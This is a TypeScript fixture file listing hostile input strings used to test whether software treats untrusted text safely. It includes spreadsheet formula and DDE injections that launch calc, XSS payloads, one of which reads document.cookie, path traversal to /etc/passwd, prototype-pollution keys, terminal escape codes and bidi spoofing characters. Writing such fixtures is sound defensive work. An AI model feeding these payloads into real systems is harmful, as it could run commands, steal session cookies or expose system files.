/**
 * What somebody may type into a cell, write into a JSON file, call a file or answer as a server, so that a program takes
 * it for something else than text. Each by what it would be taken for. All of them are legal texts of the format.
 */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  // Formulas
  formula: '=HYPERLINK("http://example.org/?"&A1,"点击")',
  "command of another program": "=cmd|'/c calc'!A1",
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3",
  at: "@SUM(1+1)",
  "full-width formula": "＝1＋1",
  "formula behind an apostrophe": "'=1+1",
  "apostrophe that belongs to the text": "'十四五'规划",
  "formula behind a line end": "说明\n=1+1",
  "formula inside a formula": '"&HYPERLINK("http://example.org")&"',
  "array formula": "{=1+1}",
  date: "1-2",
  number: "0012",
  truth: "TRUE",
  "error value": "#REF!",
  // Markup
  script: "<script>alert(1)</script>",
  image: '<img src=x onerror="alert(1)">',
  link: '<a href="javascript:alert(1)">x</a>',
  "end of a text area": "</textarea></pre><svg onload=alert(1)>",
  entity: "&lt;b&gt;&#x3c;&amp;amp;",
  "XML of a worksheet": '</t></si></sst><c r="A1"><f>1+1</f></c>',
  "character data": "]]><!-- -->",
  template: "${1+1}{{1+1}}<%= 1 %>%s$&$1",
  // Paths and addresses
  "path upwards": "..\\..\\../../etc/passwd",
  "absolute path": "C:\\Windows\\System32\\calc.exe",
  "address with a script": "javascript:alert(document.cookie)",
  "address on the network": "\\\\example.org\\share\\x",
  device: "CON",
  // Keys of objects
  prototype: "__proto__",
  constructor: "constructor",
  "own method": "hasOwnProperty",
  // Characters that programs obey
  "codes of a terminal": "\u001b]0;题\u0007\u001b[2J\u001b[31m红",
  "codes of a terminal in one byte": "\u009b31m红",
  "turned direction": "申报\u202Egnp.exe",
  "isolated direction": "\u2066a\u2069b\u200f",
  "nothing to be seen": "a\u200bb\u2060c\ufeffd",
  zero: "a\u0000b",
  "tab and formula": "a\t=1+1",
  "line separator": "a\u2028b\u2029c",
  "next line": "a\u0085b",
  // What files cannot hold as it is
  "escape of a spreadsheet": "_x0041_x0042_",
  "escape that one made here would complete": "SKU_x0041\u0001",
  "no character": "a\uffffb\ufffec",
  "outside the first plane": "😀𠀀",
  "combining marks": `a${"\u0301\u0323".repeat(300)}`.normalize("NFC"),
};

export const HOSTILE: readonly (readonly [string, string])[] = Object.entries(HOSTILE_TEXTS);
